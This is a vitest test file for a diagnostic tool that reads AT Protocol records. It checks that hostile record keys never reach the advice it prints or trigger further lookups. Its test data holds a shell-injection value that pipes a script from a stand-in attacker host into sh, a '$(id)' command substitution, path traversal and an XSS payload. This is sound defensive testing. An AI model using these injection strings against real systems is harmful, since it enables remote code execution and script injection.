import { expect, test } from 'vitest';
import { diagnose } from '../../../packages/masthead-doctor/src/doctor/diagnose.ts';
import { fetchRecordUris } from '../../../src/atproto/index.ts';

// A key of a record goes into commands that are copied into a shell, into tags that are copied into a page, and into addresses.
const DID = 'did:plc:aaaaaaaaaaaaaaaaaaaaaaaa';
const KEYS = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a shell's
  'x;curl${IFS}evil.example|sh',
  '$(id)',
  '..',
  '"><script>alert(1)</script>',
  'a b',
  `k${'k'.repeat(100_000)}`,
];
const NAMED = KEYS.map((key) => [key.slice(0, 30), key] as const);

function network(key: string): typeof fetch {
  const record = (collection: string, value: object) => ({ uri: `at://${DID}/${collection}/${key}`, cid: 'c', value });
  const publication = record('site.standard.publication', { url: 'https://victim.example.com/blog', name: 'x' });
  const document = { site: publication.uri, title: 'x', path: '/essay', publishedAt: '2026-01-01T00:00:00Z' };
  const service = [{ id: '#atproto_pds', serviceEndpoint: 'https://pds.example.com' }];
  return async (input) => {
    const { hostname, pathname, searchParams } = new URL(String(input));
    if (hostname === 'plc.directory') return Response.json({ id: DID, service });
    if (pathname.endsWith('getBacklinks')) return Response.json({ records: [{ did: DID, rkey: key }] });
    if (!pathname.endsWith('listRecords')) return new Response('', { status: 404 });
    const documents = searchParams.get('collection') === 'site.standard.document';
    return Response.json({
      records: [documents ? record('site.standard.document', document) : publication],
    });
  };
}

test.each(NAMED)('a record with the key %s, which is none, stands in no advice of a diagnosis', async (_, key) => {
  const options = { fetch: network(key), resolveTxt: async () => [] };
  for (const link of [
    'https://victim.example.com/blog/essay',
    'https://victim.example.com/blog',
    'https://victim.example.com/',
  ]) {
    expect(JSON.stringify(await diagnose(options, link))).not.toContain(`/${JSON.stringify(key).slice(1, -1)}`);
  }
});

test.each(NAMED)('and no AppView is asked about it: %s', async (_, key) => {
  const options = { fetch: network(key), cache: { get: () => undefined, set: () => undefined } };
  expect(await fetchRecordUris(options, 'https://victim.example.com/blog/essay')).toEqual([]);
  expect(await fetchRecordUris(options, 'https://victim.example.com/blog')).toEqual([]);
});
